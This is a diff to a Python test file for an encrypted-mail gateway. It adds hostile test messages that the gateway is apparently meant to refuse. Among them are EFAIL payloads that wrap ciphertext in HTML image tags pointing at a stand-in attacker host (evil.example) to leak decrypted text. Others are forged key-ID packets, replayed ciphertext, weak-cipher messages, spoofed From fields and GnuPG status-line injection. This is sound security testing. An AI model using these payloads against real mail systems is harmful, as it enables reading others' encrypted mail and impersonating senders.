@@ -8,9 +8,11 @@ from collections.abc import Callable
 import pytest
 
 from gateway.correspondence import Correspondent
+from gateway.crypto import _packets
 from gateway.facts import Envelope
 from gateway.outcome import Cause
-from tests.hostile import hostile
+from tests.hostile import attacks, hostile
+from tests.hostile.attacks import attack
 from tests.hostile.hostile import CLEAR, HELP, OFFICER, Tried, multipart, refused, seal, sent, signed, text
 from tests.support.focalpoint import DOMAIN, SE_UIM, FocalPoint, focal_point, request
 
@@ -28,6 +30,7 @@ def signed_only(gate: FocalPoint) -> bytes:
     return CLEAR + signed(HELP, hostile.detached(gate.people["officer"], HELP))
 
 
+@attack(attacks.PARTLY_ENCRYPTED, "a clear-signed text, not encrypted at all")
 def clear_signed(gate: FocalPoint) -> bytes:
     officer = gate.people["officer"]
     return CLEAR + b"\r\n" + officer._gpg("--local-user", officer.fingerprint, "--clearsign", stdin=b"GSP HELP\n")
@@ -41,11 +44,35 @@ def only_octets(gate: FocalPoint) -> bytes:
     return bytes(range(256)) * 20
 
 
+@attack(attacks.PARTLY_SIGNED, "encrypted first and signed outside only")
+def encrypted_then_signed(gate: FocalPoint) -> bytes:
+    raw = sent(gate, "officer", seal(gate, "officer", HELP, sign=False))
+    entity = raw[raw.index(b"Content-Type:") :]
+    return CLEAR + signed(entity, hostile.detached(gate.people["officer"], entity))
+
+
+@attack(attacks.PARTLY_ENCRYPTED, "text in clear beside the encrypted part")
 def clear_text_beside(gate: FocalPoint) -> bytes:
     raw = gate.mail("officer", "GSP HELP\n")
     return CLEAR + multipart("mixed", text("Please read this too."), raw[raw.index(b"Content-Type:") :])
 
 
+@attack(attacks.EFAIL_OUTSIDE, "the encrypted part between two parts of HTML that would send its text away")
+def efail_direct_exfiltration(gate: FocalPoint) -> bytes:
+    raw = gate.mail("officer", "GSP HELP\n")
+    before = b'Content-Type: text/html\r\n\r\n<img src="http://evil.example/\r\n'
+    after = b'Content-Type: text/html\r\n\r\n">\r\n'
+    return CLEAR + multipart("mixed", before, raw[raw.index(b"Content-Type:") :], after)
+
+
+@attack(attacks.EFAIL_OUTSIDE, "an inline message inside an attribute of HTML that would send it away")
+def efail_inline_in_html(gate: FocalPoint) -> bytes:
+    armoured = seal(gate, "officer", HELP).replace(b"\n", b"\r\n")
+    around = (b'Content-Type: text/html\r\n\r\n<img src="http://evil.example/\r\n', b'\r\n">\r\n')
+    return CLEAR + around[0] + armoured + around[1]
+
+
+@attack(attacks.PARTLY_ENCRYPTED, "a third part in the encrypted message, as a mailing list adds it")
 def third_part(gate: FocalPoint) -> bytes:
     raw = gate.mail("officer", "GSP HELP\n")
     end = raw.rindex(b"--", 0, raw.rindex(b"--"))
@@ -53,14 +80,17 @@ def third_part(gate: FocalPoint) -> bytes:
     return raw[:end] + boundary + b"\r\nContent-Type: text/plain\r\n\r\nbanner\r\n" + boundary + b"--\r\n"
 
 
+@attack(attacks.PARTLY_ENCRYPTED, "text above an inline message")
 def text_above_armour(gate: FocalPoint) -> bytes:
     return CLEAR + b"\r\nPlease read this too.\r\n" + seal(gate, "officer", HELP)
 
 
+@attack(attacks.PARTLY_ENCRYPTED, "text below an inline message")
 def text_below_armour(gate: FocalPoint) -> bytes:
     return CLEAR + b"\r\n" + seal(gate, "officer", HELP) + b"\r\nSent from my telephone\r\n"
 
 
+@attack(attacks.PARTLY_ENCRYPTED, "two inline messages in one text")
 def two_messages(gate: FocalPoint) -> bytes:
     return CLEAR + b"\r\n" + seal(gate, "officer", HELP) * 2
 
@@ -80,12 +110,14 @@ def passphrase_too(gate: FocalPoint) -> bytes:
     return sent(gate, "officer", seal(gate, "officer", HELP, "--passphrase", "guess", "--symmetric"))
 
 
+@attack(attacks.EFAIL_INSIDE, "the packet that promises integrity turned into the old one without")
 def without_integrity(gate: FocalPoint) -> bytes:
     """EFAIL: the packet that promises integrity becomes the old one that does not."""
     keys, body = hostile.taken_apart(hostile.binary(seal(gate, "officer", HELP)))
     return sent(gate, "officer", hostile.armour(keys + hostile.packet(9, body[1:])))
 
 
+@attack(attacks.PARTLY_ENCRYPTED, "a literal packet behind the encrypted one")
 def packet_beside(gate: FocalPoint) -> bytes:
     octets = hostile.binary(seal(gate, "officer", HELP))
     return sent(gate, "officer", hostile.armour(octets + hostile.packet(11, b"b\x00\x00\x00\x00\x00GSP HELP")))
@@ -129,7 +161,8 @@ def automatic_in_clear(gate: FocalPoint) -> bytes:
 
 OUTSIDE: list[tuple[Callable[[FocalPoint], bytes], int]] = [
     (not_encrypted, 101), (signed_only, 101), (clear_signed, 101), (empty, 101), (only_octets, 101),
-    (clear_text_beside, 102), (third_part, 102), (text_above_armour, 102), (text_below_armour, 102),
+    (encrypted_then_signed, 102), (clear_text_beside, 102), (efail_direct_exfiltration, 102),
+    (efail_inline_in_html, 102), (third_part, 102), (text_above_armour, 102), (text_below_armour, 102),
     (packet_beside, 102), (to_somebody_else, 103), (passphrase_only, 104), (passphrase_too, 104),
     (without_integrity, 104), (smime, 105), (two_messages, 102), (cut_armour, 105), (cut_packet, 105), (nested, 105),
     (many_parts, 105), (too_large, 106), (looping, 107), (automatic_in_clear, 108),
@@ -154,31 +187,38 @@ def unknown_key(gate: FocalPoint) -> bytes:
     return sent(gate, "stranger", seal(gate, "stranger", HELP))
 
 
+@attack(attacks.IDENTITY, "a stranger's good signature under the officer's name")
 def unknown_key_under_a_known_name(gate: FocalPoint) -> bytes:
     return sent(gate, "stranger", seal(gate, "stranger", HELP), OFFICER)
 
 
+@attack(attacks.IDENTITY, "a colleague's good signature under the officer's address")
 def other_persons_from(gate: FocalPoint) -> bytes:
     return sent(gate, "colleague", seal(gate, "colleague", HELP), OFFICER)
 
 
+@attack(attacks.REPLAY, "the officer's ciphertext as the colleague's mail")
 def captured_and_sent_again_by_a_colleague(gate: FocalPoint) -> bytes:
     """A1: the answer would go to whoever sends another's mail again."""
     return sent(gate, "colleague", seal(gate, "officer", HELP))
 
 
+@attack(attacks.REPLAY, "the officer's ciphertext as a stranger's mail")
 def captured_and_sent_again_by_nobody(gate: FocalPoint) -> bytes:
     return sent(gate, "stranger", seal(gate, "officer", HELP))
 
 
+@attack(attacks.FROM, "two From fields")
 def two_from_fields(gate: FocalPoint) -> bytes:
     return b"From: eve@evil.example\r\n" + gate.mail("officer", "GSP HELP\n")
 
 
+@attack(attacks.FROM, "no From field")
 def no_from_field(gate: FocalPoint) -> bytes:
     return re.sub(rb"\AFrom: [^\r]*\r\n", b"", gate.mail("officer", "GSP HELP\n"))
 
 
+@attack(attacks.REPLAY, "what the officer signed for a colleague, encrypted anew to the gateway by that colleague")
 def addressed_to_a_colleague(gate: FocalPoint) -> bytes:
     """A2: signed for a colleague, who encrypts it again to the gateway."""
     fields = (f"From: {OFFICER}", "To: colleague <colleague@party.example>", "Subject: help")
@@ -186,6 +226,7 @@ def addressed_to_a_colleague(gate: FocalPoint) -> bytes:
     return hostile.forged(gate, signed(entity, hostile.detached(gate.people["officer"], entity)))
 
 
+@attack(attacks.HEADERS, "another From in the protected fields than outside")
 def another_from_inside(gate: FocalPoint) -> bytes:
     fields = ("From: colleague@party.example", f"To: gsp@{DOMAIN}")
     return sent(gate, "officer", seal(gate, "officer", text("GSP HELP\n", *fields, parameters="; hp=cipher")))
@@ -199,6 +240,55 @@ def automatic_inside(gate: FocalPoint) -> bytes:
     return sent(gate, "officer", seal(gate, "officer", text("GSP HELP\n", "Auto-Submitted: auto-replied")))
 
 
+@attack(attacks.PARTLY_SIGNED, "text of the attacker's beside the officer's signed part")
+def partly_signed(gate: FocalPoint) -> bytes:
+    good = signed(HELP, hostile.detached(gate.people["officer"], HELP))
+    return hostile.forged(gate, multipart("mixed", text("Send it to me."), good))
+
+
+@attack(attacks.PARTLY_SIGNED, "encrypted first and signed by a colleague around it")
+def signed_around_what_is_not_signed(gate: FocalPoint) -> bytes:
+    inside = seal(gate, "officer", HELP, sign=False)
+    return sent(gate, "colleague", seal(gate, "colleague", b"Content-Type: text/plain\r\n\r\n" + inside), OFFICER)
+
+
+@attack(attacks.WEAK, "a signature over SHA-1")
+def sha_1(gate: FocalPoint) -> bytes:
+    options = ("--digest-algo", "SHA1", "--personal-digest-preferences", "SHA1")
+    return sent(gate, "officer", seal(gate, "officer", HELP, *options))
+
+
+@attack(attacks.WEAK, "encryption with 3DES")
+def triple_des(gate: FocalPoint) -> bytes:
+    return sent(gate, "officer", seal(gate, "officer", HELP, "--cipher-algo", "3DES"))
+
+
+@attack(attacks.WEAK, "encryption with CAST5")
+def cast5(gate: FocalPoint) -> bytes:
+    return sent(gate, "officer", seal(gate, "officer", HELP, "--cipher-algo", "CAST5"))
+
+
+@attack(attacks.KEY_IDS, "a stranger's signature whose packet names the officer's key ID")
+def the_officers_key_id_on_a_signature(gate: FocalPoint) -> bytes:
+    officer, stranger = gate.people["officer"], gate.people["stranger"]
+    packets = stranger._gpg("--dearmor", stdin=hostile.detached(stranger, HELP))
+    own = bytes.fromhex(stranger.fingerprint[-16:])
+    assert own in packets[-120:]
+    renamed = packets.replace(b"\x09\x10" + own, b"\x09\x10" + bytes.fromhex(officer.fingerprint[-16:]))
+    assert renamed != packets
+    armoured = stranger._gpg("--enarmor", stdin=renamed).replace(b"ARMORED FILE", b"SIGNATURE")
+    return hostile.forged(gate, signed(HELP, armoured))
+
+
+@attack(attacks.KEY_IDS, "a session key for somebody else under the gateway's key ID")
+def our_key_id_on_a_session_key(gate: FocalPoint) -> bytes:
+    officer = gate.people["officer"]
+    ours = hostile.binary(seal(gate, "officer", HELP))
+    theirs = hostile.binary(officer.seal(HELP, officer.fingerprint))
+    (_, ours_at, _), (_, at, _) = _packets._packet(ours, 0), _packets._packet(theirs, 0)
+    return sent(gate, "officer", hostile.armour(theirs[: at + 1] + ours[ours_at + 1 : ours_at + 9] + theirs[at + 9 :]))
+
+
 WRITERS: list[tuple[Callable[[FocalPoint], bytes], Cause]] = [
     (unsigned, Cause.NOT_SIGNED),
     (unknown_key, Cause.UNKNOWN_KEY),
@@ -210,6 +300,13 @@ WRITERS: list[tuple[Callable[[FocalPoint], bytes], Cause]] = [
     (no_from_field, Cause.FROM_UNCLEAR),
     (addressed_to_a_colleague, Cause.NOT_FOR_US),
     (another_from_inside, Cause.FROM_OF_ANOTHER),
+    (partly_signed, Cause.PARTLY_SIGNED),
+    (signed_around_what_is_not_signed, Cause.UNKNOWN_KEY),
+    (sha_1, Cause.WEAK_ALGORITHM),
+    (triple_des, Cause.WEAK_ALGORITHM),
+    (cast5, Cause.WEAK_ALGORITHM),
+    (the_officers_key_id_on_a_signature, Cause.BAD_SIGNATURE),
+    (our_key_id_on_a_session_key, Cause.CANNOT_DECRYPT),
     (automatic, Cause.AUTOMATIC),
     (automatic_inside, Cause.AUTOMATIC),
 ]
@@ -222,28 +319,29 @@ def test_only_the_registered_key_of_the_one_from_address_is_believed(
     assert refused(gate, make(gate), caplog) == Tried(201, cause.value)
 
 
-@pytest.mark.parametrize(
-    "from_",
-    [
-        "officer@party.example <eve@evil.example>",
-        '"officer@party.example" <eve@evil.example>',
-        "eve@evil.example, officer@party.example",
-        "officer@party.example, eve@evil.example",
-        "Officers: officer@party.example;",
-        "officer@party.example (eve@evil.example)",
-        "(officer@party.example) eve@evil.example",
-        "=?utf-8?q?officer=40party.example=3E?= <eve@evil.example>",
-        "=?utf-8?q?officer=40party.example?=",
-        "<officer@party.example> <eve@evil.example>",
-        "<@evil.example:officer@party.example>",
-        "eve@evil.example <officer@party.example>",
-        "officer@party.example\x00.evil.example",
-        "<>",
-        "",
-        "officer@party.example.evil.example",
-        "\u043efficer@party.example",
-    ],
-)
+FROM = {
+    "an address before the real one": "officer@party.example <eve@evil.example>",
+    "the address as display name": '"officer@party.example" <eve@evil.example>',
+    "two addresses, the officer's last": "eve@evil.example, officer@party.example",
+    "two addresses, the officer's first": "officer@party.example, eve@evil.example",
+    "a group": "Officers: officer@party.example;",
+    "an address in a comment behind": "officer@party.example (eve@evil.example)",
+    "the address in a comment before": "(officer@party.example) eve@evil.example",
+    "the address as encoded display name": "=?utf-8?q?officer=40party.example=3E?= <eve@evil.example>",
+    "an encoded word in place of an address": "=?utf-8?q?officer=40party.example?=",
+    "two addresses in brackets": "<officer@party.example> <eve@evil.example>",
+    "a source route": "<@evil.example:officer@party.example>",
+    "another address as display name": "eve@evil.example <officer@party.example>",
+    "a NUL": "officer@party.example\x00.evil.example",
+    "empty brackets": "<>",
+    "nothing": "",
+    "a longer domain": "officer@party.example.evil.example",
+    "a letter that looks alike": "\u043efficer@party.example",
+}
+
+
+@attack(attacks.FROM, "in From: {}", "GSP-201")
+@pytest.mark.parametrize("from_", [pytest.param(value, id=name) for name, value in FROM.items()])
 def test_a_from_field_that_programs_read_differently_is_refused(gate: FocalPoint, caplog: Log, from_: str) -> None:
     whoever = [sent(gate, who, seal(gate, who, HELP), from_ or " ") for who in ("officer", "colleague", "stranger")]
     tried = [refused(gate, raw, caplog) for raw in whoever]
@@ -254,6 +352,7 @@ def test_a_from_field_that_programs_read_differently_is_refused(gate: FocalPoint
 # --- the ciphertext -------------------------------------------------------------------------------------
 
 
+@attack(attacks.EFAIL_INSIDE, "changed octets, and a message without its modification detection code", "GSP-201")
 def test_changed_ciphertext_is_refused_and_nothing_of_it_is_read(gate: FocalPoint, caplog: Log) -> None:
     keys, body = hostile.taken_apart(hostile.binary(seal(gate, "officer", HELP)))
     for place in (2, 30, len(body) // 2, len(body) - 1):
@@ -290,6 +389,11 @@ LINES = (
 )
 
 
+@attack(
+    attacks.INTERFACE,
+    "GnuPG's status lines in a file name, a notation, the text, and in place of a signature",
+    "GSP-201",
+)
 def test_status_lines_in_a_name_a_notation_or_the_text_are_not_believed(gate: FocalPoint, caplog: Log) -> None:
     lines = "x\n" + LINES.format(gate.people["officer"].fingerprint)
     named = seal(gate, "stranger", HELP, "--set-filename", lines, sign=False)
@@ -305,6 +409,7 @@ def test_status_lines_in_a_name_a_notation_or_the_text_are_not_believed(gate: Fo
 # --- more than once -------------------------------------------------------------------------------------
 
 
+@attack(attacks.REPLAY, "the signed part in a new encryption", Cause.REPLAY)
 def test_a_signed_part_in_a_new_encryption_is_a_replay(people: dict[str, Correspondent], caplog: Log) -> None:
     with focal_point(people) as gate:
         entity = text(request(SE_UIM))
@@ -315,6 +420,7 @@ def test_a_signed_part_in_a_new_encryption_is_a_replay(people: dict[str, Corresp
         assert refused(gate, again, caplog) == Tried(201, Cause.REPLAY.value)
 
 
+@attack(attacks.REPLAY, "the signed packets encrypted once more by a reader who knows the session key", Cause.REPLAY)
 def test_the_same_packets_under_a_new_prefix_are_a_replay(people: dict[str, Correspondent], caplog: Log) -> None:
     """A reader of the mail knows its session key, and can encrypt the signed packets once more (A3)."""
     with focal_point(people) as gate:
@@ -328,6 +434,7 @@ def test_the_same_packets_under_a_new_prefix_are_a_replay(people: dict[str, Corr
         assert refused(gate, sent(gate, "officer", hostile.armour(again)), caplog) == Tried(201, Cause.REPLAY.value)
 
 
+@attack(attacks.REPLAY, "the same mail in another envelope", "the first answer again; nothing is done")
 def test_the_same_mail_in_another_envelope_gets_the_same_answer_and_does_nothing(
     people: dict[str, Correspondent],
 ) -> None:
@@ -339,6 +446,43 @@ def test_the_same_mail_in_another_envelope_gets_the_same_answer_and_does_nothing
         again = gate.gateway.process(b"Received: from eve\r\nX-New: 1\r\n" + raw, other)
         assert (again.exchange, again.referrals) == (first.exchange, first.referrals)  # type: ignore[union-attr]
         assert hostile.traces(gate) == before
+
+
+# --- header protection ----------------------------------------------------------------------------------
+
+COLLEAGUE = "From: colleague <colleague@party.example>"
+CONFUSED = {
+    "the colleague as From in a part below, which says that it is protected": multipart(
+        "mixed", text("GSP HELP\n", COLLEAGUE, parameters="; hp=cipher")
+    ),
+    "the colleague as From in an attached message": multipart(
+        "mixed", text("GSP HELP\n"), b"Content-Type: message/rfc822\r\n\r\n" + COLLEAGUE.encode() + b"\r\n\r\nx\r\n"
+    ),
+    "HP-Outer fields that name the colleague": text(
+        "GSP HELP\n", f"HP-Outer: {COLLEAGUE}", "HP-Outer: To: eve@evil.example", parameters="; hp=cipher"
+    ),
+    "Reply-To, Sender, Bcc and Disposition-Notification-To inside": text(
+        "GSP HELP\n", "Reply-To: eve@evil.example", "Sender: eve@evil.example", "Bcc: eve@evil.example",
+        "Disposition-Notification-To: eve@evil.example", parameters="; hp=cipher",
+    ),
+    "another Subject with an exchange's number outside": text(
+        "GSP HELP\n", "Subject: help", parameters="; hp=cipher"
+    ),
+}  # fmt: skip
+
+
+@attack(attacks.HEADERS, "{}", "taken as the signer's; answered to the registered address only")
+@pytest.mark.parametrize("entity", [pytest.param(value, id=name) for name, value in CONFUSED.items()])
+def test_no_header_field_inside_makes_the_mail_anothers_or_sends_the_answer_elsewhere(
+    gate: FocalPoint, entity: bytes
+) -> None:
+    raw = sent(gate, "officer", seal(gate, "officer", entity))
+    raw = raw.replace(b"Subject: ...", b"Subject: [GSP-2026-000001/SE aaaaaaaaaaaaaaaaaaaaaaaa]")
+    assert gate.gateway.process_file(raw)["outcome"] == "taken"
+    ((reader, octets),) = gate.gateway.take_outbox()
+    assert reader == "officer@party.example"
+    assert b"evil.example" not in octets
+    assert gate.people["officer"].read(octets).outer_subject != "[GSP-2026-000001/SE aaaaaaaaaaaaaaaaaaaaaaaa]"
 
 
 # --- damaged but honest ---------------------------------------------------------------------------------
